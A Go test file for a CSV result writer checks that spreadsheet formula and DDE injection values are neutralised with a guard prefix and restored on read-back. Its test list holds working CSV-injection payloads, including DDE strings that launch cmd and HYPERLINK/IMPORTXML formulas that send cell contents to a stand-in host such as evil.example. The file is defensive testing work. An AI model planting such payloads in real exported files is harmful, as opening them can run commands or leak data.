package report

import (
	"encoding/csv"
	"fmt"
	"os"
	"owr-import/importer/formula"
	"owr-import/importer/row"
	"owr-import/importer/source"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

// wrHostile are cell values a spreadsheet would run, or that try to slip
// past a guard: formula and DDE payloads behind each trigger (= + - @ TAB
// CR), triggers alone, triggers behind quotes the guard itself uses, with
// the delimiter, quotes and line breaks that force quoting, and the signed
// numbers that are left as they are.
var wrHostile = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-cmd|' /C calc'!A0`, `@SUM(1+9)*cmd|' /C calc'!A0`,
	`=DDE("cmd";"/C calc";"!A0")`, "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
	"=", "+", "-", "@", "\t", "\r", "\r\n=1", "=\n1", "=\r\n1", "-\t1",
	"=1;2", "=1,2", "=1\t2", "=1|2", `="a""b"`, `+"quoted"`,
	"'=x", "''=x", "'+1", "'", "''",
	"-1e5", "+32 2 100 10 20", "-12.5.3", "+-1", "--1", "-.5", "-5.", "-1,2,3",
	// Left as they are: no spreadsheet runs a plain signed number.
	"-12.5", "+32", "-0,25", "-7",
	// Harmless: the trigger is not first.
	"1-2", "a=b", " =1+1", "x@example.com",
}

// wrSignedNumber is a plain signed decimal number: the one kind of value
// that may start with + or - in a result file without the guard. It is
// written out here rather than taken from the formula package, so that
// the test checks the guard, not the guard against itself.
var wrSignedNumber = regexp.MustCompile(`^[+-][0-9]+([.,][0-9]+)?$`)

// TestCSVNoFormulaUnguarded writes every hostile value into every column
// of a CSV result file, in the header and in the rows, through Write and
// through the RowEncoder path validate uses, with each delimiter; then
// reads the raw file with encoding/csv (which does not remove the guard)
// and checks that no cell starts with = + - @ TAB or CR except a plain
// signed number; then reads it back through the source package, which
// removes the guard, and gets every value as it was.
func TestCSVNoFormulaUnguarded(t *testing.T) {
	for _, delim := range []rune{';', ',', '\t', '|'} {
		for _, encoded := range []bool{false, true} {
			t.Run(fmt.Sprintf("%q encoded=%v", delim, encoded), func(t *testing.T) {
				path := filepath.Join(t.TempDir(), "k.results.csv")
				width := 4
				header := []string{wrHostile[0], "Naam", wrHostile[3], "owr_error"}
				var rows [][]string
				for i, v := range wrHostile {
					// v in each column, beside other hostile values.
					for c := range width {
						r := make([]string, width)
						for j := range r {
							r[j] = wrHostile[(i+j+1)%len(wrHostile)]
						}
						r[c] = v
						rows = append(rows, r)
					}
				}
				wrWriteCSV(t, path, WriterOptions{Format: row.FormatCSV, Delimiter: delim, Header: header, StatusCol: -1}, rows, encoded)

				data, err := os.ReadFile(path)
				must(t, err)
				r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(data), "\uFEFF")))
				r.Comma, r.FieldsPerRecord = delim, width
				got, err := r.ReadAll()
				must(t, err)
				want := append([][]string{header}, rows...)
				if len(got) != len(want) {
					t.Fatalf("read %d records, want %d", len(got), len(want))
				}
				for i, rec := range got {
					for j, cell := range rec {
						if cell != "" && formula.IsTrigger(cell[0]) && !wrSignedNumber.MatchString(cell) {
							t.Errorf("record %d cell %d = %q: starts with %q unguarded", i+1, j+1, cell, cell[0])
						}
					}
				}

				// Read back as the next run reads a fed-back file: the
				// guard removed, every value as it was, but for line
				// breaks (see wrReadsBackAs).
				src, err := source.OpenSource(path, source.SourceOptions{Delimiter: delim})
				must(t, err)
				defer src.Close()
				if got, want := src.Header(), wrReadsBackAs(header); !reflect.DeepEqual(got, want) {
					t.Errorf("header reads back as %q, want %q", got, want)
				}
				for i, rec := range readBack(t, src) {
					if want := wrReadsBackAs(rows[i]); !reflect.DeepEqual(rec.Values, want) {
						t.Errorf("row %d reads back as %q, want %q", rec.Row, rec.Values, want)
					}
				}
			})
		}
	}
}

// wrWriteCSV writes a CSV result file with Write, or, when encoded, the
// way validate does: each row encoded by the RowEncoder methods (all
// cells but the last two, then those two) and written as bytes.
func wrWriteCSV(t *testing.T, path string, opts WriterOptions, rows [][]string, encoded bool) {
	t.Helper()
	w, err := CreateResultFile(path, opts)
	must(t, err)
	enc, ok := w.(RowEncoder)
	if encoded && !ok {
		t.Fatal("the CSV writer is not a RowEncoder")
	}
	for _, r := range rows {
		if !encoded {
			must(t, w.Write(r))
			continue
		}
		cols := make([]int, len(r)-2)
		for i := range cols {
			cols[i] = i
		}
		b := enc.AppendCells(nil, r, cols)
		b = enc.AppendLast(b, r[len(r)-2:])
		must(t, enc.WriteEncoded(b))
	}
	must(t, w.Close())
}

// wrReadsBackAs is what the CSV source gives back for values written to
// a CSV result file. It reads every line break, CRLF or a lone CR, as LF.
// So a value that starts with CR, guarded because a spreadsheet may run
// it, starts with "'" and LF when read back, and the guard is no longer
// recognised as one: it stays. A CSV input never holds such a value (the
// source has already made its CRs LFs), so only an owr_* cell, which is
// never read as input, could.
func wrReadsBackAs(values []string) []string {
	out := make([]string, len(values))
	for i, v := range values {
		w := strings.ReplaceAll(strings.ReplaceAll(v, "\r\n", "\n"), "\r", "\n")
		if strings.HasPrefix(v, "\r") {
			w = string(formula.Prefix) + w
		}
		out[i] = w
	}
	return out
}
